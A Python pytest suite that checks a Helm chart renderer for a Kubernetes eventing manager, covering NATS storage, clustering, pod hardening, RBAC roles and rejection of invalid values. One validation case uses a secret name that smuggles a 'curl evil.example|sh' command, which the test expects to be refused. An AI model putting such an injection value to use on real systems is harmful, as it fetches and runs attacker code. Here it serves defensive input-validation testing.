"""The chart that the manager installs, rendered by the real helm."""

import asyncio
import base64
import shutil
from contextlib import suppress
from pathlib import Path

import pytest
import yaml

from eventing_manager.act.chart import ChartRenderer, chart_values
from eventing_manager.act.credentials import Credentials
from eventing_manager.api.names import DRAINING_ANNOTATION
from eventing_manager.api.spec import BackendType, EventingSpec, NatsSettings, Storage, StorageType
from eventing_manager.errors import ChartError, HelmKilledError
from eventing_manager.observe.eventmesh import role_name

CREDENTIALS = Credentials(user="eventing", password='p"w', salt="salt")
ENABLED = {"nats": {"enabled": True, "auth": {"user": "u", "password": "p"}}}


@pytest.fixture
def renderer(helm, backend_chart):
    return ChartRenderer(helm=helm, chart=backend_chart, release="eventing", namespace="kyma-system")


async def rendered(renderer, *, draining=False, **nats):
    spec = EventingSpec(backend=BackendType.NATS, nats=NatsSettings(**nats))
    objects = await renderer.render(chart_values(spec, credentials=CREDENTIALS, draining=draining))
    return {(obj["kind"], obj["metadata"]["name"]): obj for obj in objects}


async def test_nats_is_a_statefulset_with_its_configuration_and_services(renderer):
    objects = await rendered(renderer)

    assert set(objects) == {
        ("ConfigMap", "eventing-nats"),
        ("NetworkPolicy", "eventing-nats"),
        ("Secret", "eventing-nats-auth"),
        ("Service", "eventing-nats"),
        ("Service", "eventing-nats-headless"),
        ("StatefulSet", "eventing-nats"),
    }
    assert {obj["metadata"]["namespace"] for obj in objects.values()} == {"kyma-system"}


async def test_eventmesh_needs_nothing(renderer):
    objects = await renderer.render(chart_values(EventingSpec(backend=BackendType.EVENTMESH)))

    assert objects == []


async def test_servers_that_drain_are_others_with_another_file_and_nothing_else_differs(renderer):
    before = await rendered(renderer)
    draining = await rendered(renderer, draining=True)

    changed = [key for key, obj in draining.items() if obj != before[key]]
    template = draining["StatefulSet", "eventing-nats"]["spec"]["template"]
    (items,) = (
        source["secret"]["items"]
        for source in template["spec"]["volumes"][0]["projected"]["sources"]
        if "secret" in source
    )
    assert changed == [("StatefulSet", "eventing-nats")]
    assert template["metadata"]["annotations"][DRAINING_ANNOTATION] == "true"
    assert items == [{"key": "draining.conf", "path": "auth.conf"}]


async def test_every_volume_is_named_in_an_argument(renderer):
    statefulset = (await rendered(renderer))["StatefulSet", "eventing-nats"]

    container = statefulset["spec"]["template"]["spec"]["containers"][0]
    assert container["args"] == ["--config=/etc/nats/nats.conf", "--store_dir=/data"]
    assert {mount["mountPath"] for mount in container["volumeMounts"]} == {"/etc/nats", "/data"}


async def test_file_storage_is_a_claim_of_the_size_asked_for(renderer):
    objects = await rendered(renderer, storage=Storage(size="3Gi"))

    (claim,) = objects["StatefulSet", "eventing-nats"]["spec"]["volumeClaimTemplates"]
    assert claim["spec"]["resources"]["requests"]["storage"] == "3Gi"
    assert "max_file_store: 3221225472" in objects["ConfigMap", "eventing-nats"]["data"]["nats.conf"]


async def test_a_claim_outlives_a_statefulset_that_is_deleted_by_hand(renderer):
    statefulset = (await rendered(renderer))["StatefulSet", "eventing-nats"]

    assert statefulset["spec"]["persistentVolumeClaimRetentionPolicy"] == {
        "whenDeleted": "Retain",
        "whenScaled": "Retain",
    }


async def test_memory_storage_makes_no_claim_and_fits_into_the_memory_limit(renderer):
    objects = await rendered(renderer, storage=Storage(type=StorageType.MEMORY, size="1Gi"))

    spec = objects["StatefulSet", "eventing-nats"]["spec"]
    limits = spec["template"]["spec"]["containers"][0]["resources"]["limits"]
    configuration = objects["ConfigMap", "eventing-nats"]["data"]["nats.conf"]
    assert "volumeClaimTemplates" not in spec
    assert "max_memory_store: 1073741824" in configuration
    assert "max_file_store: 0" in configuration
    assert int(limits["memory"]) > 1073741824


async def test_three_servers_form_a_cluster_that_may_lose_one(renderer):
    objects = await rendered(renderer, replicas=3)

    configuration = objects["ConfigMap", "eventing-nats"]["data"]["nats.conf"]
    secret = objects["Secret", "eventing-nats-auth"]["data"]
    routes = "".join(
        base64.b64decode(value).decode() for name, value in secret.items() if name == "cluster.conf"
    )
    assert objects["StatefulSet", "eventing-nats"]["spec"]["replicas"] == 3
    assert (configuration + routes).count("@eventing-nats-") == 3
    assert objects["PodDisruptionBudget", "eventing-nats"]["spec"]["maxUnavailable"] == 1


async def test_labels_annotations_and_resources_reach_the_pods(renderer):
    objects = await rendered(
        renderer,
        labels={"team": "a", "sidecar.istio.io/inject": "true"},
        annotations={"note": "1", DRAINING_ANNOTATION: "true"},
        resources={"limits": {"cpu": 2}},
    )

    template = objects["StatefulSet", "eventing-nats"]["spec"]["template"]
    assert template["metadata"]["labels"]["team"] == "a"
    assert template["metadata"]["labels"]["sidecar.istio.io/inject"] == "false"
    assert template["metadata"]["annotations"]["note"] == "1"
    assert template["metadata"]["annotations"][DRAINING_ANNOTATION] == "false"
    assert template["spec"]["containers"][0]["resources"] == {"limits": {"cpu": 2}}


TEXTS = [
    "", " ", "true", "y", "off", "null", "~", "1", "1e3", "0x1F", "0o7", "0b1", "1_000", "-.inf", "12:30:45",
    "2026-01-01", "=", "<<", "*a", "&a", "!a", "@", "`", "a: b", "- a", "{a}", "[", "#", "|", ">", "%", "'",
    '"', "\\", "\\n", "{{ .Values }}", "${X}", "a\n\nb\n", "\t", "\r\n", "\x00\x07\x1b\x7f", "\x85\xa0",
    "\u200b\u2028\ufeff\ufffe", "ü", "/", "x" * 300,
]  # fmt: skip


async def test_every_text_reaches_the_pods_as_the_text_it_is(renderer):
    annotations = {f"a{number}": text for number, text in enumerate(TEXTS)}
    keys = ["true", "n", "null", "1", "1e3", "0x1F", "1_000", "2026-01-01", "a.b/c_d", "a.b/1"]
    labels = dict.fromkeys(keys, "1e3")

    objects = await rendered(renderer, annotations={**annotations, **labels}, labels=labels)

    metadata = objects["StatefulSet", "eventing-nats"]["spec"]["template"]["metadata"]
    assert {**annotations, **labels}.items() <= metadata["annotations"].items()
    assert labels.items() <= metadata["labels"].items()


async def test_an_image_may_be_pinned_by_its_digest(renderer):
    tag = f"2.15.1-alpine@sha256:{'0' * 64}"

    objects = await renderer.render({"nats": {**ENABLED["nats"], "image": {"tag": tag}}})

    (statefulset,) = [obj for obj in objects if obj["kind"] == "StatefulSet"]
    assert statefulset["spec"]["template"]["spec"]["containers"][0]["image"] == f"nats:{tag}"


async def test_a_namespace_that_looks_like_a_number_is_a_name_in_every_object(helm, backend_chart):
    renderer = ChartRenderer(helm=helm, chart=backend_chart, release="eventing", namespace="1e3")
    all_of_it = {"replicas": 3, "destinationRule": {"enabled": True}, "serviceMonitor": {"enabled": True}}

    objects = await renderer.render({"nats": {**ENABLED["nats"], **all_of_it}})

    assert {obj["metadata"]["namespace"] for obj in objects} == {"1e3"}
    assert len({obj["kind"] for obj in objects}) == 8, "every template makes an object"


async def test_clients_authenticate_with_what_the_secret_says(renderer):
    objects = await rendered(renderer)

    data = {
        key: base64.b64decode(value).decode()
        for key, value in objects["Secret", "eventing-nats-auth"]["data"].items()
    }
    assert (data["username"], data["password"]) == ("eventing", 'p"w')
    assert data["auth.conf"] == 'authorization {\n  user: "eventing"\n  password: "p\\"w"\n}'
    assert "include auth.conf" in objects["ConfigMap", "eventing-nats"]["data"]["nats.conf"]


async def test_nats_without_a_password_is_refused(renderer):
    with pytest.raises(ChartError, match=r"auth\.password is not set"):
        await renderer.render({"nats": {"enabled": True}})


async def test_only_the_manager_reaches_the_monitoring_port(renderer):
    policy = (await rendered(renderer))["NetworkPolicy", "eventing-nats"]

    (sources,) = [
        rule["from"]
        for rule in policy["spec"]["ingress"]
        if "monitor" in [port["port"] for port in rule["ports"]]
    ]
    assert sources == [{"podSelector": {"matchLabels": {"app.kubernetes.io/name": "eventing-manager"}}}]


async def test_a_changed_configuration_restarts_the_servers(renderer):
    small = (await rendered(renderer))["StatefulSet", "eventing-nats"]
    large = (await rendered(renderer, storage=Storage(size="2Gi")))["StatefulSet", "eventing-nats"]

    assert checksum(small) != checksum(large)


def checksum(statefulset):
    return statefulset["spec"]["template"]["metadata"]["annotations"]["checksum/config"]


async def test_the_pods_are_hardened(renderer):
    pod = (await rendered(renderer))["StatefulSet", "eventing-nats"]["spec"]["template"]["spec"]

    assert_hardened(pod)


def assert_hardened(pod):
    (container,) = pod["containers"]
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert container["securityContext"]["readOnlyRootFilesystem"] is True
    assert container["securityContext"]["allowPrivilegeEscalation"] is False
    assert container["securityContext"]["capabilities"] == {"drop": ["ALL"]}
    assert {"limits", "requests"} <= container["resources"].keys()
    assert {"startupProbe", "readinessProbe", "livenessProbe"} <= container.keys()


@pytest.mark.parametrize(
    ("values", "named"),
    [
        ({"nats": {"enabled": True, "replica": 1}}, "replica"),
        ({"nats": {"enabled": "yes"}}, "enabled"),
        ({"nats": {"enabled": True, "replicas": 2}}, "replicas"),
        ({"nats": {"enabled": True, "storage": {"type": "tape"}}}, "type"),
        ({"natz": {"enabled": True}}, "natz"),
        ({"nats": {}, "global": {"a": 1}}, "'a' not allowed"),
        ({"nats": {"enabled": None}}, "missing property 'enabled'"),
        ({"nats": {"enabled": True, "auth": {"salt": 1}}}, "auth/salt'"),
        ({"nats": {"enabled": True, "auth": {"salt": None}}}, "'salt'"),
        ({"nats": {"enabled": True, "auth": {"salt": "x" * 1025}}}, "auth/salt'"),
        ({"nats": {"enabled": True, "auth": {"password": 1}}}, "auth/password'"),
        ({"nats": {"enabled": True, "auth": {"password": "x" * 1025}}}, "auth/password'"),
        ({"nats": {"enabled": True, "auth": {"user": ""}}}, "auth/user'"),
        ({"nats": {"enabled": True, "auth": {"token": "x"}}}, "'token' not allowed"),
        ({"nats": {"enabled": True, "draining": "true"}}, "draining'"),
        ({"nats": {"enabled": True, "replicas": "3"}}, "replicas'"),
        ({"nats": {"enabled": True, "storage": {"size": 1}}}, "storage/size'"),
        ({"nats": {"enabled": True, "storage": {"bytes": 0}}}, "storage/bytes'"),
        ({"nats": {"enabled": True, "storage": {"bytes": 2**63}}}, "storage/bytes'"),
        ({"nats": {"enabled": True, "storage": {"bytes": -(2**63)}}}, "storage/bytes'"),
        ({"nats": {"enabled": True, "storage": {"className": "a b"}}}, "storage/className'"),
        ({"nats": {"enabled": True, "memoryStoreBytes": -1}}, "memoryStoreBytes'"),
        ({"nats": {"enabled": True, "image": {"tag": ""}}}, "image/tag'"),
        ({"nats": {"enabled": True, "image": {"tag": "1\n2"}}}, "image/tag'"),
        ({"nats": {"enabled": True, "image": {"repository": 'a" b'}}}, "image/repository'"),
        ({"nats": {"enabled": True, "image": {"pullPolicy": "Sometimes"}}}, "image/pullPolicy'"),
        ({"nats": {"enabled": True, "podLabels": {"a": 1}}}, "podLabels/a'"),
        ({"nats": {"enabled": True, "podAnnotations": {"a": None}}}, "podAnnotations/a'"),
        ({"nats": {"enabled": True, "resources": {"limits": {"cpu": True}}}}, "resources/limits/cpu'"),
        ({"nats": {"enabled": True, "resources": {"claims": []}}}, "'claims' not allowed"),
    ],
)
async def test_a_wrong_value_is_refused_by_name(renderer, values, named):
    with pytest.raises(ChartError, match=named):
        await renderer.render(values)


async def test_a_broken_template_is_named(helm, backend_chart, tmp_path):
    chart = shutil.copytree(backend_chart, tmp_path / "chart")
    (chart / "charts/nats/templates/broken.yaml").write_text("{{ .Values.nothing.at.all }}")
    renderer = ChartRenderer(helm=helm, chart=chart, release="eventing", namespace="n")

    with pytest.raises(ChartError, match=r"templates/broken\.yaml"):
        await renderer.render(ENABLED)


async def test_a_helm_that_is_killed_says_nothing_about_the_chart(backend_chart, tmp_path):
    killed = tmp_path / "helm"
    killed.write_text("#!/bin/sh\nkill -KILL $$\n")
    killed.chmod(0o755)
    renderer = ChartRenderer(helm=str(killed), chart=backend_chart, release="eventing", namespace="n")

    with pytest.raises(HelmKilledError):
        await renderer.render(ENABLED)


async def test_a_folder_without_a_chart_is_named(helm, tmp_path):
    renderer = ChartRenderer(helm=helm, chart=tmp_path, release="eventing", namespace="n")

    with pytest.raises(ChartError, match=r"has no Chart\.yaml"):
        await renderer.render({})


async def test_a_rendering_is_made_once_and_then_no_file_is_read(helm, backend_chart, tmp_path):
    chart = shutil.copytree(backend_chart, tmp_path / "chart")
    renderer = ChartRenderer(helm=helm, chart=chart, release="eventing", namespace="n")
    before = await renderer.render(ENABLED)

    shutil.rmtree(chart)

    assert await renderer.render(ENABLED) == before


@pytest.mark.parametrize("how", ["sleep 60", "trap '' TERM; sleep 60", "sleep 60 & wait"])
async def test_a_helm_that_takes_too_long_is_ended_with_all_it_has_started(how, backend_chart, tmp_path):
    helm, mark = tmp_path / "helm", f"mark-{tmp_path.name}-{len(how)}"
    helm.write_text(f"#!/bin/sh\nexport MARK={mark}\ncat > /dev/null\n{how}\n")
    helm.chmod(0o755)
    renderer = ChartRenderer(
        helm=str(helm), chart=backend_chart, release="eventing", namespace="n", timeout=0.5
    )

    with pytest.raises(HelmKilledError, match="no answer in 0.5 s"):
        await asyncio.wait_for(renderer.render(ENABLED), timeout=30)

    async with asyncio.timeout(30):
        while processes_with(mark):  # noqa: ASYNC110 - the kernel tells nobody when it has reaped them
            await asyncio.sleep(0.01)


def processes_with(mark):
    """Return the processes that have a mark in their environment and are not over."""
    found = []
    for environ in Path("/proc").glob("[0-9]*/environ"):
        with suppress(OSError):
            if f"MARK={mark}".encode() in environ.read_bytes():
                found.append(environ.parent.name)
    return found


async def test_what_helm_says_is_told_whatever_bytes_it_is_of(backend_chart, tmp_path):
    helm = tmp_path / "helm"
    helm.write_bytes(b"#!/bin/sh\ncat > /dev/null\nprintf 'no \\377 good' >&2\nexit 1\n")
    helm.chmod(0o755)
    renderer = ChartRenderer(helm=str(helm), chart=backend_chart, release="eventing", namespace="n")

    with pytest.raises(ChartError, match="cannot be rendered: no"):
        await renderer.render(ENABLED)


async def test_what_a_caller_does_to_a_rendering_stays_with_the_caller(renderer):
    first = await renderer.render(ENABLED)
    first[0]["metadata"]["name"] = "changed"

    second = await renderer.render(ENABLED)

    assert second[0]["metadata"]["name"] == "eventing-nats"


async def test_the_module_writes_its_namespace_on_every_object_and_brings_none(helm, module_chart):
    # module-manager renders it for the namespace "default".
    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")

    objects = await renderer.render({})

    kinds = {obj["kind"] for obj in objects}
    namespaced = [obj for obj in objects if not obj["kind"].startswith("ClusterRole")]
    assert "Namespace" not in kinds
    assert {obj["metadata"]["namespace"] for obj in namespaced} == {"kyma-system"}


async def test_the_manager_runs_hardened_under_its_own_name(helm, module_chart):
    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")

    (deployment,) = [obj for obj in await renderer.render({}) if obj["kind"] == "Deployment"]

    pod = deployment["spec"]["template"]["spec"]
    assert deployment["metadata"]["name"] == "eventing-controller-manager"
    assert pod["containers"][0]["name"] == "manager"
    assert pod["serviceAccountName"] == "eventing-controller-manager"
    assert "--leader-elect" in pod["containers"][0]["args"]
    assert_hardened(pod)


async def test_managers_keep_apart_and_all_but_one_stay_while_nodes_are_drained(helm, module_chart):
    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")

    objects = {obj["kind"]: obj for obj in await renderer.render({"replicas": 2})}

    pods = objects["Deployment"]["spec"]["template"]
    (term,) = pods["spec"]["affinity"]["podAntiAffinity"]["preferredDuringSchedulingIgnoredDuringExecution"]
    budget = objects["PodDisruptionBudget"]["spec"]
    assert objects["Deployment"]["spec"]["replicas"] == 2
    assert term["podAffinityTerm"]["topologyKey"] == "kubernetes.io/hostname"
    assert term["podAffinityTerm"]["labelSelector"] == budget["selector"]
    assert budget["selector"]["matchLabels"].items() <= pods["metadata"]["labels"].items()
    assert budget["maxUnavailable"] == 1


async def test_nobody_reaches_the_manager_but_at_its_metrics(helm, module_chart):
    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")

    objects = {obj["kind"]: obj for obj in await renderer.render({})}

    policy, pods = objects["NetworkPolicy"]["spec"], objects["Deployment"]["spec"]["template"]
    assert policy["podSelector"]["matchLabels"].items() <= pods["metadata"]["labels"].items()
    assert policy["policyTypes"] == ["Ingress"]
    assert [rule["ports"] for rule in policy["ingress"]] == [[{"port": "metrics", "protocol": "TCP"}]]


async def test_no_rule_of_the_manager_has_a_wildcard(helm, module_chart):
    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")

    roles = [obj for obj in await renderer.render({}) if obj["kind"] in {"Role", "ClusterRole"}]

    rules = [rule for role in roles for rule in role["rules"]]
    assert rules
    assert not [rule for rule in rules if any("*" in values for values in rule.values())]


NAMES_OF_SECRETS = [
    "backend",
    "leader-election",
    "eventmesh-a",
    "a.b",
    "1",
    "true",
    "1e3",
    "x" * 226,
    "x" * 227,
    "x" * 253,
]


async def test_every_eventmesh_secret_has_a_role_of_its_own(helm, module_chart):
    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")
    secrets = [
        {"namespace": namespace, "name": name}
        for namespace in ("kyma-system", "1e3")
        for name in NAMES_OF_SECRETS
    ]

    objects = await renderer.render({"eventmesh": {"secrets": secrets}})

    roles = {identity(obj): obj for obj in objects if obj["kind"] == "Role"}
    bindings = {identity(obj): obj for obj in objects if obj["kind"] == "RoleBinding"}
    assert len(roles) == len([obj for obj in objects if obj["kind"] == "Role"]), "no two have one name"
    assert roles.keys() == bindings.keys()
    for secret in secrets:
        key = (secret["namespace"], role_name(secret["name"]))
        assert roles[key]["rules"] == [
            {
                "apiGroups": [""],
                "resources": ["secrets"],
                "resourceNames": [secret["name"]],
                "verbs": ["get", "list", "watch"],
            }
        ]
        assert bindings[key]["roleRef"]["name"] == role_name(secret["name"])


def identity(obj):
    return obj["metadata"]["namespace"], obj["metadata"]["name"]


@pytest.mark.parametrize(
    ("values", "arguments"),
    [
        ({}, ["--leader-elect", "--serve-namespaces=kcp-system,kyma-system"]),
        ({"serveNamespaces": ["shop"]}, ["--leader-elect", "--serve-namespaces=shop"]),
        ({"serveNamespaces": ["1e3", "true"]}, ["--leader-elect", "--serve-namespaces=1e3,true"]),
        ({"serveNamespaces": []}, ["--leader-elect"]),
        ({"serveNamespaces": [""]}, ["--leader-elect"]),  # serveNamespaces={}, as helm's --set reads it
        (
            {"serveNamespaces": ["a"], "extraArgs": ["--serve-namespaces=b", 'x: "y']},
            ["--leader-elect", "--serve-namespaces=a", "--serve-namespaces=b", 'x: "y'],
        ),
    ],
)
async def test_the_manager_is_told_whom_to_serve(helm, module_chart, values, arguments):
    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")

    (deployment,) = [obj for obj in await renderer.render(values) if obj["kind"] == "Deployment"]

    assert deployment["spec"]["template"]["spec"]["containers"][0]["args"] == arguments


async def test_the_manager_may_look_whether_it_is_being_removed(helm, module_chart):
    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")

    roles = [obj for obj in await renderer.render({}) if obj["kind"] in {"Role", "ClusterRole"}]

    rules = {
        (resource, name): set(rule["verbs"])
        for role in roles
        for rule in role["rules"]
        for resource in rule["resources"]
        for name in rule.get("resourceNames", [])
    }
    assert rules["customresourcedefinitions", "eventings.operator.kyma-project.io"] == {"list", "watch"}


def of_secret(**changes):
    return {"eventmesh": {"secrets": [{"namespace": "shop", "name": "mesh", **changes}]}}


@pytest.mark.parametrize(
    ("values", "named"),
    [
        (of_secret(name="x;curl evil.example|sh;#"), "secrets/0/name'"),
        (of_secret(name="mesh\n"), "secrets/0/name'"),
        (of_secret(name='"'), "secrets/0/name'"),
        (of_secret(name="Mesh"), "secrets/0/name'"),
        (of_secret(name="x" * 254), "secrets/0/name'"),
        (of_secret(name=1), "secrets/0/name'"),
        (of_secret(namespace="shop/mesh"), "secrets/0/namespace'"),
        (of_secret(namespace="a.b"), "secrets/0/namespace'"),
        (of_secret(namespace="x" * 64), "secrets/0/namespace'"),
        (of_secret(key="a"), "'key' not allowed"),
        ({"eventmesh": {"secrets": of_secret()["eventmesh"]["secrets"] * 2}}, "items at 0 and 1"),
        ({"serveNamespaces": "kcp-system"}, "serveNamespaces'"),
        ({"serveNamespaces": ["a,b"]}, "serveNamespaces/0'"),
        ({"serveNamespaces": [" "]}, "serveNamespaces/0'"),
        ({"serveNamespaces": ["*"]}, "serveNamespaces/0'"),
        ({"serveNamespaces": ["a", "a"]}, "items at 0 and 1"),
        ({"extraArgs": [1]}, "extraArgs/0'"),
        ({"image": {"tag": 2022}}, "image/tag'"),
        ({"image": {"repository": "a b"}}, "image/repository'"),
        ({"replicas": 0}, "replicas'"),
        ({"resources": {"limits": {"cpu": True}}}, "resources/limits/cpu'"),
        ({"serveNamespaces": None}, "missing property 'serveNamespaces'"),
        ({"serveNamespace": []}, "'serveNamespace' not allowed"),
    ],
)
async def test_a_wrong_value_of_the_module_is_refused_by_name(helm, module_chart, values, named):
    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")

    with pytest.raises(ChartError, match=named):
        await renderer.render(values)


def test_every_field_of_the_crd_is_described(module_chart):
    crd = yaml.safe_load((module_chart / "crds/eventings.yaml").read_text())
    schema = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]

    assert list(undescribed(schema, "")) == [".metadata"]


def undescribed(schema, path):
    if "description" not in schema:
        yield path
    for name, field in schema.get("properties", {}).items():
        yield from undescribed(field, f"{path}.{name}")
    for inner in ("items", "additionalProperties"):
        if inner in schema:
            yield from undescribed(schema[inner], f"{path}[]")


@pytest.mark.parametrize(
    "text", ["plain", "ä€", "\U0001f600", "\x7f\x80\ufffe", "<<", "=", "2022-12-24", '"\\']
)
async def test_every_text_comes_back_from_helm_as_it_went_in(renderer, text):
    objects = await rendered(renderer, annotations={"note": text})

    template = objects["StatefulSet", "eventing-nats"]["spec"]["template"]
    assert template["metadata"]["annotations"]["note"] == text
